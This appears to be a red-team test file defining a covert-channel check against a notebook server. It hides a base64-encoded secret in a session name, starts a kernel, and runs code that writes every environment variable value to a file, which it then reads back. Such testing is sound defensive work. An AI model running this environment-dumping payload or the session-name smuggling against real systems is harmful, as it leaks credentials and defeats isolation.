from __future__ import annotations

import base64

from tests.redteam.channel import channel
from tests.redteam.targets import Target

READ = """
import os
open("session_in.txt", "w").write("".join(os.environ.values()));
"""


@channel(
    "session-in",
    "Twenty kilobytes in the name of a session, which a kernel has in its environment",
    direction="in",
    closed_by="an engine's environment is the image's",
    size=20_000,
)
def attack(site: Target, secret: bytes) -> bytes | None:
    name = base64.urlsafe_b64encode(secret).decode()
    body = {"path": "x", "name": name, "type": "notebook", "kernel": {"name": "python3"}}
    kernel = site.ask("POST", "api/sessions", body).document.get("kernel", {}).get("id")
    if not kernel:
        return None
    with site.wire(kernel) as wire:
        wire.run(READ)
    site.ask("DELETE", f"api/kernels/{kernel}")
    return site.inside("session_in.txt")
